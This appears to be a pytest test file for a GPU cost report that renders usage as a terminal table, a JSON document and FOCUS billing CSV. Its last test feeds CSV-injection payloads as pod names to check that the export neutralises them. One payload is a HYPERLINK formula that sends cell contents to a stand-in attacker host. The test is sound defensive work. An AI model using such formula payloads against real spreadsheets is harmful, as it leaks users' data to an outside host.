"""What GPUs cost, as a table, as JSON and as FOCUS CSV."""

import csv
import io
import json
import re
from fractions import Fraction

import pytest

from gpu_device_plugin.features.cost.report import (
    UNKNOWN,
    By,
    Costs,
    Rate,
    cents,
    cost_document,
    cost_table,
    focus_csv,
    rows,
)
from gpu_device_plugin.features.cost.rules import NOBODY, Account, Holder, Key, Part, Period
from gpu_device_plugin.report.rules.columns import Tone

PERIOD = Period(0, 36000, 600)
WEB = Key(Holder("ml", "Deployment", "web", "web-1"), "T4")
NONE = Key(NOBODY, "T4")
PARTS = {
    (WEB, Part.USED): Fraction(3600),
    (WEB, Part.IDLE): Fraction(7200),
    (NONE, Part.FREE): Fraction(10800),
    (NONE, Part.STRANDED): Fraction(3600),
    (NONE, Part.UNOBSERVED): Fraction(10800),
}
RATES = [Rate("*", Fraction(1))]


def costs(
    by: By,
    *,
    parts: dict[tuple[Key, Part], Fraction] | None = None,
    energy: bool = True,
    models: bool = False,
    **more: object,
) -> Costs:
    mj = {WEB: 7_200_000_000, NONE: 3_600_000_000} if energy else {}
    found = Account(parts or PARTS, {WEB: Fraction(1800)}, mj, 1, stranded_known=True)
    return Costs(rows(found, by, cents(found, RATES), models=models), PERIOD, by, 1, **more)  # type: ignore[arg-type]


def cells(found: Costs) -> list[list[str]]:
    return [line.text.split() for line in cost_table(found, 200)]


def test_every_holder_has_a_line_and_the_rest_one_for_each_part() -> None:
    assert cells(costs(By.OWNER, currency="EUR", notes=("one",))) == [
        ["NAMESPACE", "OWNER", "GPU-HOURS", "USED", "IDLE", "BORROWED", "COST", "(EUR)", "KWH"],
        ["ml", "Deployment/web", "3.00", "1.00", "2.00", "0.50", "3.00", "2.00"],
        ["free", "3.00", "3.00", "1.00"],
        ["stranded", "1.00", "1.00"],
        ["not", "observed", "3.00", "3.00"],
        ["total", "10.00", "1.00", "2.00", "0.50", "10.00", "3.00"],
        ["*", "one"],
    ]


def test_figures_stand_below_each_other_and_what_nobody_had_is_faint() -> None:
    solo = Key(Holder("ml", pod="solo"), "T4")
    parts = {(solo, Part.USED): Fraction(3_600_000), (NONE, Part.FREE): Fraction(3_600_000)}
    found = Account(parts, {solo: Fraction(3_600_000)}, {solo: 3_600_000_000_000}, 1, stranded_known=True)
    lines = {by: cost_table(Costs(rows(found, by, {}), PERIOD, by, 1), 200) for by in (By.NAMESPACE, By.POD)}
    assert [(line.text, line.tone) for line in lines[By.NAMESPACE]] == [
        ("NAMESPACE     GPU-HOURS     USED  IDLE  BORROWED      KWH", Tone.HEADING),
        ("ml              1000.00  1000.00  0.00   1000.00  1000.00", Tone.PLAIN),
        ("free            1000.00                              0.00", Tone.FAINT),
        ("stranded           0.00", Tone.FAINT),
        ("not observed       0.00", Tone.FAINT),
        ("total           2000.00  1000.00  0.00   1000.00  1000.00", Tone.HEADING),
    ]
    assert lines[By.POD][1].text == "ml                   solo    1000.00  1000.00  0.00   1000.00  1000.00"


def test_long_names_are_cut_to_the_width_of_the_terminal() -> None:
    long = Key(Holder("a-namespace-with-a-long-name", "Deployment", "an-owner-with-a-long-name", "x"), "T4")
    lines = cost_table(costs(By.OWNER, parts={(long, Part.USED): Fraction(3600)}, energy=False), 66)
    assert max(len(line.text) for line in lines) == 66


def test_without_prices_and_power_there_are_hours_only() -> None:
    assert cells(costs(By.POD, energy=False))[:2] == [
        ["NAMESPACE", "OWNER", "POD", "GPU-HOURS", "USED", "IDLE", "BORROWED"],
        ["ml", "Deployment/web", "web-1", "3.00", "1.00", "2.00", "0.50"],
    ]


def test_what_unknown_pods_had_is_a_line_and_what_was_not_measured_a_column() -> None:
    parts = {**PARTS, (NONE, Part.UNMEASURED): Fraction(3600)}
    found = cells(costs(By.NAMESPACE, parts=parts, energy=False))
    assert found[0][-2:] == ["NOT", "MEASURED"]
    assert found[2] == [*UNKNOWN.split(), "1.00", "0.00", "0.00", "0.00", "1.00"]


def test_the_energy_of_what_nobody_had_is_told_once() -> None:
    parts = {**PARTS, (NONE, Part.UNMEASURED): Fraction(3600)}
    kwh = [line[-1] for line in cells(costs(By.NAMESPACE, parts=parts))[1:4]]
    assert kwh == ["2.00", "1.00", "1.00"]  # ml's; of pods that are not known only the hours; that of all free GPUs


def test_the_document_has_what_the_table_has() -> None:
    web = {
        "usedGpuHours": "1.000000",
        "idleGpuHours": "2.000000",
        "borrowedGpuHours": "0.500000",
        "cost": {"used": "1.00", "idle": "2.00"},
        "totalCost": "3.00",
        "energyKwh": "2.000000",
    }
    nobody = {
        "freeGpuHours": "3.000000",
        "strandedGpuHours": "1.000000",
        "unobservedGpuHours": "3.000000",
        "borrowedGpuHours": "0.000000",
        "cost": {"free": "3.00", "stranded": "1.00", "unobserved": "3.00"},
        "totalCost": "7.00",
        "energyKwh": "1.000000",
    }
    sums = {
        "borrowedGpuHours": "0.500000",
        "cost": {"used": "1.00", "idle": "2.00", "free": "3.00", "stranded": "1.00", "unobserved": "3.00"},
        "totalCost": "10.00",
        "energyKwh": "3.000000",
    }
    assert cost_document(costs(By.OWNER, currency="EUR", notes=("one",))) == {
        "version": 1,
        "from": "1970-01-01T00:00:00Z",
        "to": "1970-01-01T10:00:00Z",
        "stepSeconds": 600,
        "by": "owner",
        "gpus": 1,
        "currency": "EUR",
        "rows": [{"namespace": "ml", "ownerKind": "Deployment", "owner": "web", "pod": "", **web}],
        "nobody": nobody,
        "total": {**web, **nobody, **sums},
        "notes": ["one"],
    }
    plain = cost_document(costs(By.OWNER))
    assert plain["currency"] is None
    assert plain["total"] == {
        "usedGpuHours": "1.000000", "idleGpuHours": "2.000000", "freeGpuHours": "3.000000",
        "strandedGpuHours": "1.000000", "unobservedGpuHours": "3.000000", "borrowedGpuHours": "0.500000",
        "energyKwh": "3.000000",
    }  # fmt: skip
    assert cost_document(Costs((), PERIOD, By.OWNER, 0))["nobody"] == {}


def test_each_charge_of_focus_names_its_sub_account_and_use() -> None:
    found = list(csv.DictReader(io.StringIO(focus_csv(costs(By.OWNER, models=True, currency="EUR"), RATES, "lab"))))
    assert [(row["SubAccountId"], row["ResourceId"], row["BilledCost"], row["ConsumedQuantity"]) for row in found] == [
        ("ml", "ml/Deployment/web", "1.00", "1.000000000"),
        ("ml", "ml/Deployment/web", "2.00", "2.000000000"),
        ("", "free", "3.00", "3.000000000"),
        ("", "stranded", "1.00", "1.000000000"),
        ("", "unobserved", "3.00", "3.000000000"),
    ]
    assert {(row["BillingAccountId"], row["BillingCurrency"], row["ChargePeriodEnd"]) for row in found} == {
        ("lab", "EUR", "1970-01-01T10:00:00Z")
    }
    assert [(row["ResourceName"], row["ChargeDescription"]) for row in found[1:3]] == [
        ("web", "T4: GPU time idle, of ml/Deployment/web"),
        ("free", "T4: GPU time free"),
    ]
    assert found[0] == {
        **dict.fromkeys(("BilledCost", "ContractedCost", "EffectiveCost", "ListCost"), "1.00"),
        **dict.fromkeys(("ContractedUnitPrice", "ListUnitPrice"), "1.000000000"),
        **dict.fromkeys(("ConsumedQuantity", "PricingQuantity"), "1.000000000"),
        **dict.fromkeys(("ConsumedUnit", "PricingUnit"), "GPU Hours"),
        **dict.fromkeys(("BillingAccountId", "BillingAccountName", "InvoiceIssuerName"), "lab"),
        **dict.fromkeys(("ProviderName", "PublisherName"), "lab"),
        **dict.fromkeys(("SubAccountId", "SubAccountName"), "ml"),
        **dict.fromkeys(("BillingPeriodStart", "ChargePeriodStart"), "1970-01-01T00:00:00Z"),
        **dict.fromkeys(("BillingPeriodEnd", "ChargePeriodEnd"), "1970-01-01T10:00:00Z"),
        "BillingCurrency": "EUR",
        "ChargeCategory": "Usage",
        "ChargeClass": "",
        "ChargeDescription": "T4: GPU time used, of ml/Deployment/web",
        "ChargeFrequency": "Usage-Based",
        "PricingCategory": "Standard",
        "ResourceId": "ml/Deployment/web",
        "ResourceName": "web",
        "ResourceType": "GPU",
        "ServiceCategory": "Compute",
        "ServiceName": "Shared GPUs",
        "SkuId": "T4",
        "SkuPriceId": "T4 per GPU Hour",
        "Tags": '{"gpushare/model": "T4", "gpushare/namespace": "ml", "gpushare/owner": "web", '
        '"gpushare/owner_kind": "Deployment", "gpushare/use": "used"}',
    }


def test_a_charge_is_named_by_the_least_that_is_known() -> None:
    by_pod, by_namespace = (
        csv.DictReader(io.StringIO(focus_csv(costs(by, models=True), RATES, "lab"))) for by in (By.POD, By.NAMESPACE)
    )
    assert next(by_pod)["ResourceName"] == "web-1"
    assert next(by_namespace)["ResourceName"] == "ml"


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"pay here")'


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        *((f"{sign}1", f"'{sign}1") for sign in "=+-@\uff1d\uff0b\uff0d\uff20"),
        (FORMULA, f"'{FORMULA}"),
        (f"  {FORMULA}", f"  '{FORMULA}"),
        ("\t=1", "\\t=1"),
        ("\r=1", "\\r=1"),
        ("a\n=1", "a\\n=1"),
        ("\x1b[31m", "\\x1b[31m"),
        ('";=1', "\";'=1"),
        ("a; =1|+1,-1", "a; '=1|'+1,'-1"),
        ("web-1", "web-1"),
        ("a=b", "a=b"),
    ],
)
def test_no_cell_of_the_csv_is_a_formula_whoever_owns_the_pods(name: str, cell: str) -> None:
    """The owner of a pod is what its creator writes, and spreadsheets run formulas; see OWASP's "CSV Injection"."""
    holder = Key(Holder(name, name, name, name), name)
    text = focus_csv(costs(By.POD, parts={(holder, Part.USED): Fraction(3600)}, models=True), RATES, name)
    (row,) = csv.DictReader(io.StringIO(text))
    assert {row[key] for key in ("SubAccountId", "ResourceName", "SkuId", "ProviderName")} == {cell}
    for value in row.values():
        assert not re.search(r"(^|[,;|\t\r\n])\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", value), value
        assert value.isprintable()
    assert "gpushare/owner" in json.loads(row["Tags"])
